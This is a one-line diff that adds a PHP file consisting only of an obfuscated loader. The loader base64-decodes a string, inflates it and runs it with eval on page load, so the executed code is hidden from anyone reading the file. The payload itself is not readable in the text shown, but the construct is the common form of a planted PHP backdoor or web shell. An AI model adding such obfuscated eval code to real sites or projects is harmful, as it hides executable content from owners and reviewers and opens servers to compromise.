@@ -1,0 +1,1 @@
+<?php eval(gzinflate(base64_decode('s7EvyChQcEgtS8zRUIkP8A8OiVYvSCwuVo/VtFawtwMA'))); ?>
